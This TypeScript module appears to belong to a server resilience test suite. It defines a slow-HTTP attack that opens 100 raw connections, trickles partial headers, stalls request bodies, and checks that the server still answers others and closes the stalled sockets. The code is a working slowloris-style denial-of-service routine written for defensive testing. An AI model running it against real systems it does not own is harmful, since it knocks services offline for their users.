// Requests that never end: headers byte by byte, bodies that do not come, connections that say nothing. The server
// answers others all the while, and closes every one of them.
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, answers, PATIENCE_MS, rawConnection, timeFor } from '../attack.ts';

const CONNECTIONS = 100;
const HEAD = 'GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ';
const BODY =
  'POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{';
const OPENINGS = ['', HEAD, BODY];

export const slowHttp: Attack = {
  name: 'slowHttp',
  aim: 'requests that never end',
  async run(site) {
    const goesOn = timeFor(site);
    const sockets = await Promise.all(
      Array.from({ length: CONNECTIONS }, () => rawConnection(site)),
    );
    sockets.forEach((socket, i) => {
      socket.resume();
      socket.write(OPENINGS[i % OPENINGS.length] ?? '');
    });
    const isOpen = (): boolean => sockets.some(({ closed }) => !closed);
    const mayGoOn = timeFor({ ms: site.ms + PATIENCE_MS });
    let answered = true;
    while (goesOn() || (isOpen() && mayGoOn())) {
      for (const socket of sockets) if (!socket.destroyed) socket.write('x');
      answered = (await answers(site)) && answered;
      await sleep(250);
    }
    const ended = !isOpen();
    for (const socket of sockets) socket.destroy();
    return answered && ended;
  },
};
